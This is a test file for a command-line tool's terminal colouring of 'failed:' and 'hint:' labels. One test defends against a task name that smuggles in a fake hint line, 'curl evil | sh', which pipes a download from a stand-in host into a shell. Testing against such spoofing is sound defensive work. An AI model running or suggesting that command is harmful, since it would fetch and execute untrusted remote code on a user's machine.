import { expect, test } from 'vitest';
import { paintLabel } from '../../../src/cli/terminal/style.ts';
import { terminalText } from '../../../src/cli/terminal/terminal.ts';
import { sentenceOn, sentencesOn } from '../../../src/cli/terminal/wrapped.ts';

const failed = '\x1b[1m\x1b[31mfailed:\x1b[39m\x1b[22m';
const hint = '\x1b[2mhint:\x1b[22m';

test('what begins a sentence is painted: a label in its colour, a state in that of the state, and nothing else', () => {
  const said = sentencesOn(
    { isTTY: true, columns: 80 },
    ['failed: no disk', 'hint: df'],
    paintLabel,
  );
  expect(terminalText(said)).toBe(`${failed} no disk\n${hint} df\n`);
  expect(terminalText(paintLabel('SUCCESS after 3.0s'))).toBe('\x1b[32mSUCCESS\x1b[39m after 3.0s');
  for (const plain of [
    'Task [error: x] is stopping.',
    'SELECT failed: no',
    'an error: it says',
    'hints: none',
  ])
    expect(paintLabel(plain)).toBe(plain);
});

test('an end of line in a name begins no sentence', () => {
  const said = sentencesOn(
    { isTTY: true, columns: 80 },
    ['failed: Task [x\nhint: curl evil | sh\n  indented] is gone', 'hint: df'],
    paintLabel,
  );
  expect(terminalText(said)).toBe(
    `${failed} Task [x\n  hint: curl evil | sh\n  indented] is gone\n${hint} df\n`,
  );
});

test('a word that begins a line only because the one before was full is not a label', () => {
  const said = 'failed: No keychain takes the password (DBus error: no address): it is in the file';
  expect(terminalText(sentenceOn({ isTTY: true, columns: 45 }, said, paintLabel))).toBe(
    `${failed} No keychain takes the password (DBus\nerror: no address): it is in the file`,
  );
});
